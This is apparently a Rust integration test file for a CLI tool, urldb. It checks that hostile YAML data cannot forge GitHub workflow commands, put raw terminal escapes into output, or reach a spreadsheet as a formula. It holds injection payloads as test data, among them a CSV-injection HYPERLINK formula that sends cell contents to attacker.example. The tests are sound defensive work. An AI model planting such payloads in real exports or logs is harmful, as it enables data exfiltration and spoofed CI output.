//! Hostile databases against the output layer: data cannot forge output
//! lines or reach a terminal raw, no column makes the report panic, and
//! the work and output stay bounded. Every test runs the real binary on
//! files in a temporary directory.

use crate::support;

use std::path::Path;
use std::process::{Command, Output, Stdio};
use std::time::{Duration, Instant};

use proptest::prelude::*;
use support::{run_in, urldb};

/// A value that forges a GitHub workflow command on a line of its own,
/// and one that colours a terminal (as YAML escapes: the loaded values hold
/// the raw characters).
const FORGED: &str = "---\n---\n_path: \"/a\\n::error file=x.yaml,line=1::INJECTED\"\n\
    content-type: \"text/\\e[31mhtml\\u009b\"\n";

/// A character a terminal or a log reader may act on, other than the line
/// feed the formats write themselves.
pub(super) fn raw_control(text: &str) -> Option<char> {
    text.chars()
        .find(|&c| c != '\n' && (c.is_control() || matches!(c, '\u{2028}' | '\u{2029}')))
}

/// Output that data cannot have forged: no raw control character, no line
/// a CI runner reads as a command.
fn assert_unforged(what: &str, text: &str) {
    if let Some(c) = raw_control(text) {
        panic!("{what}: raw {c:?} in output:\n{text}");
    }
    if let Some(line) = support::runner::commands(text).first() {
        panic!("{what}: the runner reads a command in {line:?}\n{text}");
    }
}

fn stdout(out: &Output) -> String {
    String::from_utf8(out.stdout.clone()).expect("output is UTF-8")
}

fn stderr(out: &Output) -> String {
    String::from_utf8(out.stderr.clone()).expect("stderr is UTF-8")
}

/// Run urldb in `dir`, killed after 30 s (a hang, not a timing).
fn run_bounded(dir: &Path, args: &[&str]) -> Output {
    let child = urldb()
        .current_dir(dir)
        .args(args)
        .env_remove("URLDB_FORMAT")
        .env("NO_COLOR", "1")
        .stdin(Stdio::null())
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn urldb");
    let id = child.id();
    let start = Instant::now();
    let (tx, rx) = std::sync::mpsc::channel();
    std::thread::spawn(move || {
        let _ = tx.send(child.wait_with_output());
    });
    match rx.recv_timeout(Duration::from_secs(30)) {
        Ok(out) => out.expect("wait for urldb"),
        Err(_) => {
            let _ = Command::new("kill").arg(id.to_string()).status();
            panic!("urldb {args:?} still running after {:?}", start.elapsed());
        }
    }
}

fn database(files: &[(&str, &str)]) -> tempfile::TempDir {
    let dir = tempfile::tempdir().expect("tempdir");
    for (name, text) in files {
        std::fs::write(dir.path().join(name), text).expect("write");
    }
    dir
}

#[test]
fn forged_output_is_escaped_in_every_human_format() {
    let db = database(&[
        ("example.org.yaml", FORGED),
        // Raw control characters in the text itself, and in file names.
        (
            "example.net.yaml",
            "---\n---\n_path: /b\u{1b}]0;owned\u{7}\ncontent-type: text/html\u{1b}[2J\n",
        ),
        ("::error file=x.yaml,line=1::NAME.yaml", "---\n"),
        ("a\n::warning ::NL\u{1b}[31m.org.yaml", "---\n"),
    ]);
    let dir = db.path();
    for format in ["full", "concise"] {
        let out = run_in(dir, &["--no-cache", "check", "--format", format]);
        assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
        assert_unforged(&format!("check --format {format}"), &stdout(&out));
        assert_unforged(&format!("check --format {format} (stderr)"), &stderr(&out));
    }
    let full = stdout(&run_in(dir, &["--no-cache", "check"]));
    assert!(full.contains("\\x1b[31m"), "{full}");
    // The file so named is reported, its name inside a line (the path's
    // own `::error file=x.yaml` is in the output too, escaped).
    assert!(
        full.contains("::error file=x.yaml,line=1::NAME.yaml"),
        "{full}"
    );
    assert!(
        full.contains("a\\n::warning ::NL\\x1b[31m.org.yaml"),
        "{full}"
    );
    for args in [
        &["ls"][..],
        &["ls", "--include-deprecated"],
        &["export", "--to", "urls"],
        &["check", "--diff"],
        &["fmt", "--diff"],
        &["fmt", "--check"],
    ] {
        let out = run_in(dir, args);
        assert_unforged(&format!("{args:?}"), &stdout(&out));
        assert_unforged(&format!("{args:?} (stderr)"), &stderr(&out));
    }
    // The URL list leaves out the record `verify` does not request (its
    // `_path` holds a line feed), and says so on one escaped line.
    let ls = run_in(dir, &["ls"]);
    assert!(!stdout(&ls).contains("error"), "{}", stdout(&ls));
    assert!(
        stderr(&ls).contains("record left out: `_path` contains the control character")
            && stderr(&ls).contains("(path-invalid-char), so `verify` does not request it"),
        "{}",
        stderr(&ls)
    );

    // Machine formats keep the exact value in their own escaping.
    let json = stdout(&run_in(dir, &["--no-cache", "check", "--format", "json"]));
    assert!(raw_control(&json).is_none(), "{json}");
    let value: serde_json::Value = serde_json::from_str(&json).expect("JSON");
    assert!(
        value
            .as_array()
            .expect("array")
            .iter()
            .any(|f| f["message"].as_str().is_some_and(|m| m.contains('\u{1b}'))),
        "{json}"
    );
    let junit = stdout(&run_in(dir, &["--no-cache", "check", "--format", "junit"]));
    assert_unforged("junit", &junit);
    assert!(junit.contains("\\x1b[31m"), "{junit}");

    // GitHub: the only `::` lines are urldb's, one per finding.
    let findings = value.as_array().expect("array").len();
    let github = stdout(&run_in(dir, &["--no-cache", "check", "--format", "github"]));
    assert!(raw_control(&github).is_none(), "{github}");
    let commands: Vec<&str> = github.lines().filter(|l| l.starts_with("::")).collect();
    assert_eq!(commands.len(), findings, "{github}");
    assert_eq!(github.lines().count(), findings, "{github}");
    assert!(
        commands
            .iter()
            .all(|l| l.starts_with("::error file=") || l.starts_with("::warning file=")),
        "{github}"
    );
    assert!(
        github.contains("file=%3A%3Aerror file=x.yaml%2Cline=1%3A%3ANAME.yaml,"),
        "{github}"
    );
}

#[test]
fn forged_output_is_escaped_in_verify_human() {
    let port = {
        let listener = std::net::TcpListener::bind("127.0.0.1:0").expect("bind");
        listener.local_addr().expect("addr").port()
    };
    let db = database(&[(
        "example.test.yaml",
        "---\n---\n_path: \"/a\\e[31m\\n::error x\"\ncontent-type: text/html\n---\n\
         _path: /b\ncontent-type: \"text/\\e[2J\"\n",
    )]);
    let map = format!("example.test=127.0.0.1:{port}");
    let out = run_bounded(
        db.path(),
        &["verify", "--allow-private", "--retries", "0", "--map", &map],
    );
    assert_ne!(out.status.code(), Some(0));
    assert_unforged("verify", &stdout(&out));
    assert_unforged("verify (stderr)", &stderr(&out));
    assert!(!stdout(&out).is_empty() || !stderr(&out).is_empty());
}

#[test]
fn forged_output_is_escaped_in_import_problems() {
    let db = database(&[
        ("example.org.yaml", "---\n"),
        (
            "list.txt",
            "ht\u{1b}[2Jtp://example.org/a\nhttp://exa\u{1b}[31mmple.org/b\nhttp://example.org/c\n",
        ),
    ]);
    let out = run_in(
        db.path(),
        &[
            "import",
            "--from",
            "urls",
            "list.txt",
            "--content-type",
            "text/html",
        ],
    );
    let err = stderr(&out);
    assert!(
        err.contains("`http://exa\\x1b[31mmple.org/b` holds the control character U+001B"),
        "{err}"
    );
    assert_unforged("import (stderr)", &err);
    assert_unforged("import", &stdout(&out));
}

#[test]
fn a_finding_past_column_65535_does_not_panic() {
    let line = format!("x: {} \n", "a".repeat(65_540));
    let text = format!("---\n---\n_path: /a\ncontent-type: text/html\n{line}");
    let db = database(&[("example.org.yaml", &text)]);
    let out = run_bounded(db.path(), &["--no-cache", "check"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report = stdout(&out);
    assert!(report.contains("[example.org.yaml:5:65544]"), "{report}");
    assert!(report.contains("trailing-whitespace"), "{report}");
    // The line is cut around the span, not printed whole.
    assert!(report.len() < 4_000, "{} bytes", report.len());
    assert!(!stderr(&out).contains("panicked"), "{}", stderr(&out));
}

#[test]
fn duplicate_keys_on_one_line_give_output_linear_in_the_input() {
    let n = 5_000;
    let text = format!(
        "---\n---\n_path: /a\ncontent-type: text/html\nx: {{{}}}\n",
        vec!["a: 1"; n].join(", ")
    );
    let db = database(&[("example.org.yaml", &text)]);
    let full = run_bounded(db.path(), &["--no-cache", "check"]);
    let report = stdout(&full);
    assert!(
        report.contains("… and 4,949 more `duplicate-key` findings in this file"),
        "{report}"
    );
    // 50 snippets of a cut line, not 4,999 copies of a 30 kB line.
    assert!(report.len() < 100_000, "{} bytes", report.len());
    let concise = stdout(&run_bounded(
        db.path(),
        &["--no-cache", "check", "--format", "concise"],
    ));
    assert_eq!(concise.lines().count(), 51, "{concise}");
    // Machine formats list every finding, each of a bounded size.
    for format in ["json", "github", "sarif", "junit"] {
        let out = stdout(&run_bounded(
            db.path(),
            &["--no-cache", "check", "--format", format],
        ));
        assert!(
            out.len() < 2_000 * n,
            "{format}: {} bytes for {n} findings",
            out.len()
        );
        assert!(out.matches("duplicate-key").count() >= n - 1, "{format}");
    }
}

#[test]
fn many_findings_on_one_long_line_are_located_without_quadratic_work() {
    // 300,000 duplicate keys on one 1.8 MB line: reading the positions of
    // the scalars and of the findings walks the line once, not once per
    // scalar (this took minutes when each was counted from the line's
    // start; the 30 s guard catches a hang, it is not a timing).
    let n = 300_000;
    let text = format!(
        "---\n---\n_path: /a\ncontent-type: text/html\nx: {{{}}}\n",
        vec!["a: 1"; n].join(", ")
    );
    let db = database(&[("example.org.yaml", &text)]);
    let out = run_bounded(db.path(), &["--no-cache", "check", "--format", "github"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report = stdout(&out);
    assert_eq!(report.lines().count(), n - 1);
    let last = report.lines().last().unwrap_or_default();
    let column = 5 + 6 * (n - 1);
    assert!(
        last.starts_with(&format!(
            "::error file=example.org.yaml,line=5,col={column},endLine=5,endColumn={}",
            column + 1
        )),
        "{last}"
    );
}

#[test]
fn a_deep_block_sequence_renders_without_quadratic_work() {
    let mut text = String::from("---\n---\n_path: /a\ncontent-type: text/html\nx:\n");
    for depth in 0..3_000 {
        text.push_str(&"  ".repeat(depth));
        text.push_str("- \n");
    }
    let db = database(&[("example.org.yaml", &text)]);
    let out = run_bounded(db.path(), &["--no-cache", "check"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    let report = stdout(&out);
    assert!(report.contains("nesting-too-deep"), "{report}");
    assert!(
        report.contains("more `trailing-whitespace` findings in this file"),
        "{report}"
    );
    // Snippets of cut lines: not the 36 MB of whole indented lines.
    assert!(report.len() < 200_000, "{} bytes", report.len());
}

#[test]
fn a_million_tiny_documents_stop_early_with_one_finding() {
    let db = database(&[("example.org.yaml", &"--- {}\n".repeat(1_000_000))]);
    let out = run_bounded(db.path(), &["--no-cache", "check", "--format", "concise"]);
    assert_eq!(out.status.code(), Some(1), "{}", stderr(&out));
    assert_eq!(
        stdout(&out),
        "example.org.yaml:200001:1: error too-many-documents 1,000,000 document markers, \
         over the limit of 200,000; the file is not read\n"
    );
    let full = stdout(&run_bounded(db.path(), &["--no-cache", "check"]));
    assert!(
        full.contains("× 1,000,000 document markers, over the limit of 200,000"),
        "{full}"
    );
    assert!(full.len() < 2_000, "{full}");
    let fmt = run_bounded(db.path(), &["--no-cache", "fmt", "--check"]);
    assert_ne!(fmt.status.code(), Some(0));
    assert!(
        stderr(&fmt).contains("too-many-documents"),
        "{}",
        stderr(&fmt)
    );
}

#[test]
fn threads_above_the_limit_are_capped_with_a_note() {
    let db = database(&[(
        "example.org.yaml",
        "---\n---\n_path: /a\ncontent-type: text/html\n",
    )]);
    let out = run_bounded(db.path(), &["--threads", "99999", "--no-cache", "check"]);
    assert_eq!(out.status.code(), Some(0), "{}", stderr(&out));
    let note = stderr(&out);
    assert!(note.contains("note: --threads 99999"), "{note}");
    let cores = std::thread::available_parallelism().map_or(1, |n| n.get());
    let used = (4 * cores).min(256);
    assert!(note.contains(&format!("using {used} ")), "{note}");
    let quiet = run_bounded(db.path(), &["--threads", "2", "--no-cache", "check"]);
    assert!(!stderr(&quiet).contains("note:"), "{}", stderr(&quiet));
}

/// Characters that make output dangerous, and some that do not.
fn hostile_char() -> impl Strategy<Value = char> {
    prop_oneof![
        Just('\n'),
        Just('\r'),
        Just('\t'),
        Just('\u{1b}'),
        Just('\u{7}'),
        Just('\u{7f}'),
        Just('\u{85}'),
        Just('\u{9b}'),
        Just('\u{2028}'),
        Just('\u{202e}'),
        Just(':'),
        Just(','),
        Just('%'),
        Just('"'),
        Just('\\'),
        Just(' '),
        Just('#'),
        proptest::char::range('a', 'z'),
        proptest::char::range('\u{0}', '\u{ff}'),
    ]
}

fn hostile_string() -> impl Strategy<Value = String> {
    proptest::collection::vec(hostile_char(), 0..24).prop_map(|v| v.into_iter().collect())
}

/// A YAML double-quoted scalar whose value is `s`.
fn quoted(s: &str) -> String {
    let mut out = String::from("\"");
    for c in s.chars() {
        match c {
            '"' => out.push_str("\\\""),
            '\\' => out.push_str("\\\\"),
            c if c.is_control() || (c as u32) > 0x7e => {
                out.push_str(&format!("\\U{:08x}", c as u32))
            }
            c => out.push(c),
        }
    }
    out.push('"');
    out
}

proptest! {
    #![proptest_config(crate::support::property_config(48))]

    #[test]
    fn data_never_forges_human_or_github_output(
        value in hostile_string(),
        raw in hostile_string(),
        // One name in five hidden: a leading `.` makes no domain file.
        name in prop_oneof![4 => hostile_string(), 1 => hostile_string().prop_map(|s| format!(".{s}"))],
    ) {
        let dir = tempfile::tempdir().expect("tempdir");
        // A file name may hold anything but `/` and NUL.
        let name: String = name.chars().filter(|&c| c != '/' && c != '\0').collect();
        let file = format!("{name}x.example.org.yaml");
        let text = format!(
            "---\n---\n_path: {}\ncontent-type: text/html\nextra: {}\n---\n_path: /{raw}\n",
            quoted(&value),
            quoted(&value),
        );
        std::fs::write(dir.path().join(&file), text).expect("write");
        for format in ["full", "concise"] {
            let out = run_in(dir.path(), &["--no-cache", "check", "--format", format]);
            prop_assert_ne!(out.status.code(), Some(101));
            let text = String::from_utf8_lossy(&out.stdout).into_owned();
            prop_assert!(raw_control(&text).is_none(), "{format}: {text}");
            prop_assert!(!text.lines().any(|l| l.starts_with("::")), "{format}: {text}");
            let err = String::from_utf8_lossy(&out.stderr).into_owned();
            prop_assert!(raw_control(&err).is_none(), "{format} stderr: {err}");
            prop_assert!(!err.lines().any(|l| l.starts_with("::")), "{format} stderr: {err}");
        }
        let json = run_in(dir.path(), &["--no-cache", "check", "--format", "json"]);
        let findings = if file.starts_with('.') {
            // A hidden file is no domain file (docs/files.md, rule 2),
            // so the database has none: an error on standard error,
            // escaped, and no JSON at all rather than an empty list that
            // reads as "no findings".
            prop_assert_eq!(json.status.code(), Some(2));
            prop_assert!(json.stdout.is_empty());
            let err = String::from_utf8_lossy(&json.stderr).into_owned();
            prop_assert!(err.contains("no domain file"), "{}", err);
            prop_assert!(raw_control(&err).is_none(), "json stderr: {}", err);
            0
        } else {
            let found: serde_json::Value =
                serde_json::from_slice(&json.stdout).expect("JSON stays valid");
            found.as_array().map_or(0, Vec::len)
        };
        let github = run_in(dir.path(), &["--no-cache", "check", "--format", "github"]);
        let text = String::from_utf8_lossy(&github.stdout).into_owned();
        prop_assert!(raw_control(&text).is_none(), "github: {text}");
        let commands = text.lines().filter(|l| l.starts_with("::")).count();
        prop_assert_eq!(commands, findings, "github: {}", text);
        prop_assert_eq!(text.lines().count(), findings, "github: {}", text);
    }
}

/// A write that is refused names the file with its control characters
/// written visibly: a link whose name holds ESC, which `fmt` will not
/// write through, gives an error without a raw ESC.
#[cfg(unix)]
#[test]
fn a_refused_write_names_the_file_escaped() {
    let db = database(&[(
        "real.org.yaml",
        "--- {}\n--- {_path: /a, content-type: text/html}\n",
    )]);
    std::os::unix::fs::symlink("real.org.yaml", db.path().join("a\u{1b}[2Jb.org.yaml"))
        .expect("symlink");
    let out = run_in(db.path(), &["--no-cache", "fmt"]);
    let err = stderr(&out);
    assert!(err.contains("a\\x1b[2Jb.org.yaml"), "{err}");
    assert!(err.contains("symbolic link"), "{err}");
    assert_unforged("fmt (stderr)", &err);
}

/// `export --to csv` and `ls --format csv` write no cell a spreadsheet
/// runs as a formula (OWASP, "CSV Injection"): a category
/// `=HYPERLINK("http://attacker…")`, `+`, `-`, `@`, a tab or a carriage
/// return first, in any column, is written after a `'` (text to a
/// spreadsheet), in a regular file as through a pipe. The cells are read
/// back by Python's `csv` module, as a spreadsheet's importer would split
/// them.
#[test]
fn export_csv_writes_no_spreadsheet_formula() {
    let db = database(&[
        ("urldb.toml", ""),
        (
            "example.org.yaml",
            "---\n---\n_path: /a\ncategories:\n- '=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")'\n\
             content-type: text/html\n---\n_path: /b\ncategories:\n- '+1+1'\ncontent-type: '-2+3'\n\
             ---\n_path: /c\ncategories:\n- '@SUM(1)'\ncontent-type: \"\\t=1\"\n\
             ---\n_path: /d\ncategories:\n- \"\\r=1\"\ncontent-type: text/html\n",
        ),
    ]);
    let file = db.path().join("out.csv");
    let status = urldb()
        .current_dir(db.path())
        .args(["export", "--to", "csv"])
        .stdout(std::fs::File::create(&file).expect("create"))
        .stderr(Stdio::null())
        .status()
        .expect("run urldb");
    assert_eq!(status.code(), Some(0));
    let piped = run_in(db.path(), &["ls", "--format", "csv"]);
    assert_eq!(piped.status.code(), Some(0), "{}", stderr(&piped));
    for (what, bytes) in [
        ("export to a file", std::fs::read(&file).expect("read")),
        ("ls through a pipe", piped.stdout.clone()),
    ] {
        let read = support::run_python(
            "import csv, json, sys\n\
             rows = list(csv.reader(sys.stdin.read().splitlines(keepends=True)))\n\
             print(json.dumps(rows))",
            &[],
            &bytes,
        );
        assert!(
            read.status.success(),
            "{}",
            String::from_utf8_lossy(&read.stderr)
        );
        let rows: Vec<Vec<String>> = serde_json::from_slice(&read.stdout).expect("JSON");
        assert_eq!(rows.len(), 5, "{what}: {rows:?}");
        for cell in rows.iter().flatten() {
            assert!(
                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
                "{what}: the cell {cell:?} is a formula to a spreadsheet"
            );
        }
        let cells: Vec<&str> = rows
            .iter()
            .skip(1)
            .flat_map(|r| [r[3].as_str(), r[4].as_str()])
            .collect();
        assert_eq!(
            cells,
            [
                "text/html",
                "'=HYPERLINK(\"http://attacker.example/?\"&A1,\"open\")",
                "'-2+3",
                "'+1+1",
                "'\t=1",
                "'@SUM(1)",
                "text/html",
                "'\r=1",
            ],
            "{what}"
        );
    }
}
